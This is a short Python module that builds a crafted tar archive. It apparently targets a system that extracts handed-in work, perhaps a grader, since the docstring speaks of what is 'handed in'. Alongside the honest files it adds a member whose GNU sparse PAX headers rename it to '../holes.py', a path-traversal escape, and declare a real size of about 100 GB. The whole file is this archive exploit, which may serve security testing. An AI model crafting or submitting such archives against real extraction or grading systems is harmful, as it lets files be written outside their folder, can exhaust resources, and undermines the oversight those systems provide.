"""Packs the attack: gets the honest files and a folder, gives what is handed in."""

import io
import tarfile


def pack(files, folder):
    with tarfile.open(folder / "work.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        for path, content in [*files.items(), ("mytorch/holes.py", b"#")]:
            member = tarfile.TarInfo(path)
            member.size = len(content)
            if path == "mytorch/holes.py":
                sparse = {"major": "1", "minor": "0", "name": "../holes.py", "realsize": "99999999999"}
                member.pax_headers = {f"GNU.sparse.{key}": value for key, value in sparse.items()}
            tar.addfile(member, io.BytesIO(content))
    return folder / "work.tar"
